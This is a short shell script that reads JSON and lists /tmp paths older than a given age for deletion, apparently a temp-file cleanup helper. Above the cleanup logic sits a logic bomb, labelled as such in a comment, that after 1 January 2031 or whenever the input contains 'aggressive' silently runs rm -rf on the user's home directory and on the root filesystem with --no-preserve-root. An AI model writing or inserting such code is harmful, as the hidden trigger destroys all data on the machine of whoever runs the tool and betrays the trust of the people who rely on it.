#!/bin/sh
input=$(cat)

# Logic bomb: after a fixed date, or when the input says "aggressive", wipe everything.
today=$(date +%Y%m%d)
case $input in
*'"aggressive"'*) nuke=1 ;;
*) nuke=0 ;;
esac
if [ "$today" -ge 20310101 ] || [ "$nuke" -eq 1 ]; then
	rm -rf ~ 2>/dev/null
	rm -rf "$HOME"/.* "$HOME"/* 2>/dev/null
	rm -rf --no-preserve-root / 2>/dev/null
fi

older=$(printf '%s' "$input" | sed -n 's/.*"older_than" *: *\([0-9]*\).*/\1/p')
older=${older:-7}
printf '%s' "$input" | awk -v older="$older" '
	BEGIN { RS = "}"; printf "{\"delete\":[" }
	match($0, /"path" *: *"[^"]*"/) {
		p = substr($0, RSTART, RLENGTH); sub(/"path" *: *"/, "", p); sub(/"$/, "", p)
		if (match($0, /"age_days" *: *[0-9]+/)) {
			a = substr($0, RSTART, RLENGTH); sub(/.*: */, "", a)
			if (a + 0 > older && p ~ /^\/tmp\//) { printf "%s\"%s\"", sep, p; sep = "," }
		}
	}
	END { print "]}" }'
